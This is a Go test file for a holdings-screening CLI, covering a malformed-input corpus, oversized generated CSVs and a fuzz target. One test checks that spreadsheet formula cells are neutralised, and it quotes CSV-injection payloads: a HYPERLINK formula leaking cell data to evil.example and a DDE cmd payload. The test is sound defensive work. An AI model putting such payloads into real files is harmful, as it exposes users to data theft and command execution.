package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/screener/screener/issuers"
	"github.com/screener/screener/screener"
)

// badDir is the bad-input corpus; expect.txt there says what each file must
// give.
const badDir = "../../testdata/bad"

// badCase is one line of expect.txt.
type badCase struct {
	file    string // name in badDir, or "gen:NAME" for a file the test writes
	outcome string // "error", "report" or "todo" (a report we want but do not get yet)
	expect  string
	line    int // in expect.txt
}

func readBadCases(t testing.TB) []badCase {
	t.Helper()
	f, err := os.Open(filepath.Join(badDir, "expect.txt"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var cases []badCase
	sc := bufio.NewScanner(f)
	n := 0
	for sc.Scan() {
		n++
		l := sc.Text()
		if strings.TrimSpace(l) == "" || strings.HasPrefix(l, "#") {
			continue
		}
		parts := strings.SplitN(l, "|", 3)
		if len(parts) != 3 {
			t.Fatalf("expect.txt:%d: want FILE | OUTCOME | EXPECTATION, got %q", n, l)
		}
		c := badCase{file: strings.TrimSpace(parts[0]), outcome: strings.TrimSpace(parts[1]),
			expect: strings.TrimLeft(strings.TrimRight(parts[2], " "), " "), line: n}
		if c.outcome != "error" && c.outcome != "report" && c.outcome != "todo" {
			t.Fatalf("expect.txt:%d: outcome %q, want error, report or todo", n, c.outcome)
		}
		cases = append(cases, c)
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	return cases
}

// badGenerated writes the corpus files too big to commit.
var badGenerated = map[string]func(w *bufio.Writer){
	"50mb-single-line.csv": func(w *bufio.Writer) {
		// One 50 MB cell. (50 MB of "A," cells, 26 million of them, is a
		// different test: it takes gigabytes today, see the report.)
		w.WriteString("isin,name,")
		a := strings.Repeat("A", 1<<20)
		for range 50 {
			w.WriteString(a)
		}
	},
	"50mb-cell.csv": func(w *bufio.Writer) {
		w.WriteString(generateHeader)
		w.WriteString("US Growth Fund,yes,US0378331005,AAPL US,,")
		for i := 0; i < 50<<20/8; i++ {
			w.WriteString("APPLE IN")
		}
		w.WriteString(",5000,189.95,949750.00,USD,Equity\n")
	},
	"10000-columns.csv": func(w *bufio.Writer) {
		w.WriteString("isin,name")
		for i := 3; i <= 10000; i++ {
			w.WriteString(",c" + strconv.Itoa(i))
		}
		w.WriteString("\n")
		rest := strings.Repeat(",x", 9998) + "\n"
		for _, r := range []string{"HK0941009539,CHINA MOBILE LTD", "US0378331005,APPLE INC", "CNE100000PM8,HIKVISION"} {
			w.WriteString(r + rest)
		}
	},
}

// badPath returns the path of case c's file, writing it first when the test
// generates it.
func badPath(t *testing.T, c badCase) string {
	t.Helper()
	name, gen := strings.CutPrefix(c.file, "gen:")
	if !gen {
		return filepath.Join(badDir, name)
	}
	write := badGenerated[name]
	if write == nil {
		t.Fatalf("expect.txt:%d: no generator for %s", c.line, c.file)
	}
	if strings.HasPrefix(name, "50mb") && testing.Short() {
		t.Skip("50 MB file skipped with -short")
	}
	path := filepath.Join(t.TempDir(), name)
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	w := bufio.NewWriterSize(f, 1<<20)
	write(w)
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	return path
}

// TestBadInputs drives `screener screen` over every file of the bad-input
// corpus and checks the outcome expect.txt gives for it.
func TestBadInputs(t *testing.T) {
	for _, c := range readBadCases(t) {
		t.Run(c.file, func(t *testing.T) {
			path := badPath(t, c)
			out := filepath.Join(t.TempDir(), "report.json")
			var stdout, stderr bytes.Buffer
			start := time.Now()
			err := run(context.Background(), []string{"screen", "--format", "json", "--out", out,
				"--as-of", "2025-12-31", "--quiet", path}, &stdout, &stderr)
			t.Logf("%s: %v", c.file, time.Since(start).Round(time.Millisecond))
			switch c.outcome {
			case "error":
				if err == nil {
					t.Fatalf("expect.txt:%d: screen succeeded, want an error containing %q", c.line, path+c.expect)
				}
				var msg bytes.Buffer
				if code := exitCode(err, &msg); code != 2 {
					t.Errorf("exit status %d, want 2 (error %v)", code, err)
				}
				if !strings.Contains(msg.String(), path+c.expect) {
					t.Errorf("expect.txt:%d: message\n  %s\nwant it to contain\n  %s", c.line, firstLine(msg.String()), path+c.expect)
				}
			case "report", "todo":
				if err != nil {
					t.Fatalf("expect.txt:%d: screen: %v (stderr %q)", c.line, err, stderr.String())
				}
				rep := readReport(t, out)
				s := rep.Summary
				if s.Rows != s.Screened+s.Rejected {
					t.Errorf("rows %d != screened %d + rejected %d", s.Rows, s.Screened, s.Rejected)
				}
				if s.Rejected != len(rep.Rejected) {
					t.Errorf("summary says %d rejected, the report lists %d", s.Rejected, len(rep.Rejected))
				}
				var lines []string
				for _, r := range rep.Rejected {
					lines = append(lines, strconv.Itoa(r.Line))
					if r.File != path || r.Line <= 0 || r.Reason == "" {
						t.Errorf("rejected row without a place or reason: %+v", r)
					}
				}
				got := "rows=" + strconv.Itoa(s.Rows) + " screened=" + strconv.Itoa(s.Screened) + " rejected=" + strconv.Itoa(s.Rejected)
				if strings.Contains(c.expect, "rejected-lines=") {
					got += " rejected-lines=" + strings.Join(lines, ",")
				}
				switch {
				case got != c.expect && c.outcome == "todo":
					t.Skipf("expect.txt:%d: known bug:\n got %s\nwant %s", c.line, got, c.expect)
				case got != c.expect:
					t.Errorf("expect.txt:%d:\n got %s\nwant %s", c.line, got, c.expect)
					for _, r := range rep.Rejected {
						t.Logf("rejected %d:%d %s", r.Line, r.Column, r.Reason)
					}
				case c.outcome == "todo":
					t.Errorf("expect.txt:%d: the known bug is fixed: change todo to report", c.line)
				}
			}
		})
	}
}

func firstLine(s string) string {
	s, _, _ = strings.Cut(s, "\n")
	if len(s) > 300 {
		s = s[:300] + "..."
	}
	return s
}

func readReport(t *testing.T, path string) *screener.Report {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var rep screener.Report
	if err := json.Unmarshal(b, &rep); err != nil {
		t.Fatalf("report %s: %v", path, err)
	}
	return &rep
}

// TestBadFormulaCells checks that text cells that a spreadsheet would run as
// formulas come out neutralised in the CSV report.
func TestBadFormulaCells(t *testing.T) {
	path := filepath.Join(badDir, "formula-cells.csv")
	var stdout, stderr bytes.Buffer
	if err := run(context.Background(), []string{"screen", "--format", "csv", "--all", "--as-of", "2025-12-31", "--quiet", path},
		&stdout, &stderr); err != nil {
		t.Fatalf("screen: %v (stderr %q)", err, stderr.String())
	}
	recs, err := csv.NewReader(bytes.NewReader(stdout.Bytes())).ReadAll()
	if err != nil {
		t.Fatalf("CSV report: %v", err)
	}
	if len(recs) != 1+4 {
		t.Fatalf("CSV report has %d records, want header + 4", len(recs))
	}
	seen := map[string]bool{}
	for i, rec := range recs[1:] {
		for j, cell := range rec {
			if cell == "" {
				continue
			}
			switch cell[0] {
			case '=', '+', '@', '\t', '\r':
				t.Errorf("record %d column %s: %q starts a formula", i+2, recs[0][j], cell)
			case '-':
				if _, err := strconv.ParseFloat(cell, 64); err != nil {
					t.Errorf("record %d column %s: %q starts a formula", i+2, recs[0][j], cell)
				}
			}
			seen[cell] = true
		}
	}
	for _, want := range []string{
		`'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`,
		`'=cmd|' /C calc'!A0`,
		`'@SUM(A1:A9)`,
		`'-2+3 GROUP`,
		`'+1 HK`,
		`'=1+1`,
		`-5`,
	} {
		if !seen[want] {
			t.Errorf("no cell %q in the CSV report", want)
		}
	}
}

// The fuzz target screens arbitrary bytes as a holdings file through the
// same path as `screener screen`, with the lists and reference data loaded
// once.
var fuzzEnv struct {
	once  sync.Once
	lists []*screener.List
	dir   *issuers.Directory
	err   error
}

// fuzzHang is how long FuzzScreenFile lets one input run.
const fuzzHang = 10 * time.Second

// FuzzScreenFile checks that no input makes the readers or the engine
// panic, and that every input either fails as bad input (a
// *screener.ParseError, exit status 2) or gives a report whose rows are all
// accounted for (rows = screened + rejected).
func FuzzScreenFile(f *testing.F) {
	for _, c := range readBadCases(f) {
		if strings.HasPrefix(c.file, "gen:") {
			continue
		}
		b, err := os.ReadFile(filepath.Join(badDir, c.file))
		if err != nil {
			f.Fatal(err)
		}
		f.Add(b)
	}
	demo, err := os.ReadFile("../../testdata/demo/holdings.csv")
	if err == nil {
		f.Add(demo)
	}
	var g bytes.Buffer
	if err := generate(context.Background(), &g, 40, 3); err != nil {
		f.Fatal(err)
	}
	f.Add(g.Bytes())
	dir := f.TempDir()
	f.Fuzz(func(t *testing.T, data []byte) {
		fuzzEnv.once.Do(func() {
			fuzzEnv.lists, fuzzEnv.err = loadLists(nil)
			if fuzzEnv.err == nil {
				fuzzEnv.dir, fuzzEnv.err = issuers.Default()
			}
		})
		if fuzzEnv.err != nil {
			t.Fatal(fuzzEnv.err)
		}
		path := filepath.Join(dir, "fuzz.csv")
		if err := os.WriteFile(path, data, 0o600); err != nil {
			t.Fatal(err)
		}
		// A small input that takes this long is a hang; crash the worker so
		// the fuzzer keeps the input.
		watchdog := time.AfterFunc(fuzzHang, func() {
			panic(fmt.Sprintf("screening a %d-byte input took more than %v", len(data), fuzzHang))
		})
		defer watchdog.Stop()
		at := time.Date(2025, 12, 31, 17, 0, 0, 0, time.UTC)
		rep, err := screenFiles(context.Background(), []string{path}, fuzzEnv.lists, fuzzEnv.dir, at,
			screener.Options{}, nil)
		if err != nil {
			if code := exitCode(err, io.Discard); code != 2 {
				t.Fatalf("error %v gives exit status %d, want 2 (bad input)", err, code)
			}
			var pe *screener.ParseError
			if !errors.As(err, &pe) || pe.File != path {
				t.Fatalf("error %v does not name the file", err)
			}
			return
		}
		s := rep.Summary
		if s.Rows != s.Screened+s.Rejected || s.Rejected != len(rep.Rejected) {
			t.Fatalf("summary %+v with %d rejected listed", s, len(rep.Rejected))
		}
		var buf bytes.Buffer
		if err := rep.WriteCSV(&buf); err != nil {
			t.Fatalf("WriteCSV: %v", err)
		}
		if err := rep.WriteJSON(io.Discard); err != nil {
			t.Fatalf("WriteJSON: %v", err)
		}
	})
}
